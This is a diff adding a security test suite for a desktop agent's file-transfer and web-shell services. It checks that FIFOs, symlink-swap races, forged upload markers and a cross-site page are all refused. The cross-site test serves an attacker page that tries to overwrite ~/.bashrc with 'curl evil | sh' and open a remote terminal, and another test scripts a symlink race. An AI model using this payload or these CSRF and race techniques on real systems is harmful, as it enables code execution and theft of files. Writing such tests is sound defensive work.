@@ -1,0 +1,207 @@
+// Attacks on the file routes with real files: FIFOs, folders that change under a zip, symlink swaps racing in a
+// child process, delete through a link, forged upload bookkeeping, stale uploads, and a cross-site page in Chromium.
+import { createServer, type Server } from 'node:http';
+import { execFileSync, spawn } from 'node:child_process';
+import { existsSync, readFileSync } from 'node:fs';
+import { mkdir, readdir, rm, symlink, utimes, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { freePort, launchChromium, makeRunDir, processAlive, startAgent, type RunningAgent } from '@desktop-agents/test/harness';
+import { auth, sleep, tokenEnv } from './helpers.js';
+
+let run: { dir: string; remove: () => Promise<void> };
+let home: string;
+let outside: string;
+let filer: RunningAgent;
+
+const fileUrl = (path: string) => `${filer.url}/filer?${new URLSearchParams({ file: path })}`;
+
+beforeAll(async () => {
+  run = await makeRunDir('security-filer');
+  home = join(run.dir, 'home');
+  outside = join(run.dir, 'outside');
+  await mkdir(home, { recursive: true });
+  await mkdir(outside, { recursive: true });
+  await writeFile(join(outside, 'secret.txt'), 'OUTSIDE-SECRET');
+  // the default staging folder (outside home)
+  filer = await startAgent('filer', { env: { ...tokenEnv, HOME: home } });
+});
+
+afterAll(async () => {
+  await filer?.stop();
+  await run?.remove();
+});
+
+describe('special files', () => {
+  it('refuses a FIFO without blocking, and keeps listing, uploads and readiness serving', async () => {
+    execFileSync('mkfifo', [join(home, 'pipe')]);
+    const downloads = await Promise.all(Array.from({ length: 8 }, () => fetch(fileUrl('~/pipe'), { headers: auth, signal: AbortSignal.timeout(3000) })));
+    for (const res of downloads) expect([res.status, await res.json()]).toEqual([400, { code: 400, data: 'Not a regular file' }]);
+    expect((await fetch(`${filer.url}/filer/directory/list?directory=~`, { headers: auth, signal: AbortSignal.timeout(3000) })).status).toBe(200);
+    expect((await filer.get('/readyz')).status).toBe(200);
+    const form = new FormData();
+    form.append('file', new File(['ok'], 'after-fifo.txt'));
+    expect((await fetch(`${filer.url}/filer`, { method: 'POST', headers: auth, body: form, signal: AbortSignal.timeout(3000) })).status).toBe(200);
+  });
+
+  it('keeps serving when files of a folder being zipped grow and vanish', async () => {
+    const folder = join(home, 'churn');
+    await mkdir(folder, { recursive: true });
+    for (let i = 0; i < 40; i++) await writeFile(join(folder, `f${i}.bin`), Buffer.alloc(256 * 1024, i));
+    // a writer in another process appends to and deletes files while the zips stream
+    const churn = spawn('sh', ['-c', `for i in $(seq 1 400); do for f in ${folder}/f*.bin; do head -c 65536 /dev/zero >> "$f" 2>/dev/null; done; rm -f ${folder}/f$((i % 40)).bin; done`], { stdio: 'ignore' });
+    const zips = await Promise.all(
+      Array.from({ length: 6 }, async () => {
+        const res = await fetch(fileUrl('~/churn'), { headers: auth });
+        await res.arrayBuffer().catch(() => undefined);
+        return res.status;
+      }),
+    );
+    churn.kill();
+    for (const status of zips) expect([200, 404]).toContain(status);
+    expect(processAlive(filer.process.pid)).toBe(true);
+    expect((await filer.get('/readyz')).status).toBe(200);
+  });
+});
+
+describe('symlinks', () => {
+  it('never serves a file outside home while a folder is swapped for a symlink out of it', async () => {
+    const dir = join(home, 'swap');
+    await mkdir(dir, { recursive: true });
+    await writeFile(join(dir, 'secret.txt'), 'inside');
+    await mkdir(join(home, 'swap-real'), { recursive: true });
+    await writeFile(join(home, 'swap-real', 'secret.txt'), 'inside');
+    // the racer flips home/swap between a real folder and a link to the outside folder, as fast as it can
+    const racer = spawn('sh', ['-c', `cd ${home} && while true; do mv swap swap-dir && ln -s ${outside} swap && rm swap && mv swap-dir swap; done`], { stdio: 'ignore' });
+    const bodies: string[] = [];
+    try {
+      for (let round = 0; round < 37; round++) {
+        const batch = await Promise.all(
+          Array.from({ length: 10 }, async () => {
+            const res = await fetch(fileUrl('~/swap/secret.txt'), { headers: auth });
+            return res.text();
+          }),
+        );
+        bodies.push(...batch);
+      }
+    } finally {
+      racer.kill();
+      await sleep(100);
+    }
+    expect(bodies.length).toBe(370);
+    expect(bodies.filter((b) => b.includes('OUTSIDE-SECRET'))).toEqual([]);
+    expect(bodies.some((b) => b === 'inside')).toBe(true);
+  });
+
+  it('deletes a symlink itself with recursive: true, never the folder it points to', async () => {
+    await mkdir(join(outside, 'keep'), { recursive: true });
+    await writeFile(join(outside, 'keep', 'precious.txt'), 'keep me');
+    await mkdir(join(home, 'inner'), { recursive: true });
+    await writeFile(join(home, 'inner', 'a.txt'), 'a');
+    await symlink(join(home, 'inner'), join(home, 'link-in'));
+    const res = await fetch(`${filer.url}/filer`, { method: 'DELETE', headers: { ...auth, 'content-type': 'application/json' }, body: JSON.stringify({ file: '~/link-in', recursive: true }) });
+    expect(res.status).toBe(200);
+    expect(existsSync(join(home, 'link-in'))).toBe(false);
+    expect(readFileSync(join(home, 'inner', 'a.txt'), 'utf8')).toBe('a');
+    expect(readFileSync(join(outside, 'keep', 'precious.txt'), 'utf8')).toBe('keep me');
+  });
+});
+
+describe("the agent's own bookkeeping", () => {
+  it('keeps crash markers out of reach: a marker planted through the file routes deletes nothing on restart', async () => {
+    const victim = join(outside, '.upload-0123456789abcdef.part');
+    await writeFile(victim, 'victim');
+    // where the first version kept its markers (inside home, writable through the filer itself)
+    const form = new FormData();
+    form.append('fullPath', '.cache/filer-partial/.upload-0123456789abcdef.part');
+    form.append('file', new File([victim], 'marker'));
+    expect((await fetch(`${filer.url}/filer`, { method: 'POST', headers: auth, body: form })).status).toBe(200);
+    await filer.stop();
+    filer = await startAgent('filer', { env: { ...tokenEnv, HOME: home } });
+    expect(readFileSync(victim, 'utf8')).toBe('victim');
+  });
+
+  it('refuses the staging folder to the file routes when it is configured inside home', async () => {
+    const inner = await startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: join(home, '.staging') } });
+    try {
+      const form = new FormData();
+      form.append('fullPath', '.staging/forged.json');
+      form.append('file', new File(['{}'], 'forged.json'));
+      expect((await fetch(`${inner.url}/filer`, { method: 'POST', headers: auth, body: form })).status).toBe(403);
+      expect((await fetch(`${inner.url}/filer/directory/list?directory=~/.staging`, { headers: auth })).status).toBe(400);
+    } finally {
+      await inner.stop();
+    }
+  });
+
+  it('expires partial resumable uploads after FILER_UPLOAD_TTL_MS', async () => {
+    const staging = join(run.dir, 'staging-ttl');
+    const agent = await startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: staging, FILER_UPLOAD_TTL_MS: '1000' } });
+    try {
+      const metadata = `fullPath ${Buffer.from('ttl.bin').toString('base64')}`;
+      const created = await fetch(`${agent.url}/filer/uploads`, { method: 'POST', headers: { ...auth, 'tus-resumable': '1.0.0', 'upload-length': '100', 'upload-metadata': metadata } });
+      expect(created.status).toBe(201);
+      const location = new URL(created.headers.get('location') ?? '', agent.url).pathname;
+      await fetch(`${agent.url}${location}`, { method: 'PATCH', headers: { ...auth, 'tus-resumable': '1.0.0', 'upload-offset': '0', 'content-type': 'application/offset+octet-stream' }, body: Buffer.alloc(10) });
+      // old enough to expire: the sweep runs every TTL
+      for (const name of await readdir(staging)) await utimes(join(staging, name), new Date(Date.now() - 60_000), new Date(Date.now() - 60_000)).catch(() => {});
+      await sleep(1500);
+      const head = await fetch(`${agent.url}${location}`, { method: 'HEAD', headers: { ...auth, 'tus-resumable': '1.0.0' } });
+      expect([404, 410]).toContain(head.status);
+      expect((await readdir(staging)).filter((n) => n !== 'partial')).toEqual([]);
+    } finally {
+      await agent.stop();
+      await rm(staging, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('a cross-site page in a real browser (abcdesktop mode: loopback is the pod)', () => {
+  let evil: Server;
+  let abc: RunningAgent;
+  let shell: RunningAgent;
+  beforeAll(async () => {
+    await writeFile(join(home, '.bashrc'), 'original bashrc\n');
+    abc = await startAgent('filer', { env: { AUTH_MODE: 'abcdesktop', HOME: home, FILER_STAGING_DIR: join(run.dir, 'staging-abc') } });
+    shell = await startAgent('webshell', { env: { AUTH_MODE: 'abcdesktop', WEBSHELL_SHELL: '/bin/sh' } });
+    const port = await freePort();
+    evil = createServer((_req, res) => {
+      res.setHeader('content-type', 'text/html');
+      res.end(`<!doctype html><script>
+        window.results = {};
+        const form = new FormData();
+        form.append('fullPath', '.bashrc');
+        form.append('overwrite', 'true');
+        form.append('file', new Blob(['curl evil | sh']), '.bashrc');
+        fetch('${abc.url}/filer', { method: 'POST', mode: 'no-cors', body: form }).then(() => window.results.post = 'sent', () => window.results.post = 'failed');
+        fetch('${shell.url}/terminals?cols=80&rows=24', { method: 'POST', mode: 'no-cors' }).then(() => window.results.create = 'sent', () => window.results.create = 'failed');
+        const ws = new WebSocket('ws://127.0.0.1:${shell.port}/terminals/1');
+        ws.onclose = (e) => window.results.ws = e.code + ' ' + e.reason;
+      </script>`);
+    }).listen(port, '127.0.0.1');
+    await new Promise((resolve) => evil.once('listening', resolve));
+  });
+  afterAll(async () => {
+    evil?.close();
+    await abc?.stop();
+    await shell?.stop();
+  });
+
+  it('neither overwrites ~/.bashrc nor opens a shell', async () => {
+    const browser = await launchChromium();
+    try {
+      const page = await browser.newPage();
+      const address = evil.address();
+      await page.goto(`http://localhost:${typeof address === 'object' && address ? address.port : 0}/`);
+      await page.waitForFunction('window.results.post && window.results.create && window.results.ws', undefined, { timeout: 10_000 });
+      const results = await page.evaluate<Record<string, string>>('window.results');
+      expect(results.ws).toBe('1008 origin not allowed');
+    } finally {
+      await browser.close();
+    }
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('original bashrc\n');
+    const terminals = shell.logLines().filter((l) => l['msg'] === 'terminal created');
+    expect(terminals).toEqual([]);
+    expect(shell.logLines().some((l) => l['msg'] === 'cross-site caller refused')).toBe(true);
+  });
+});
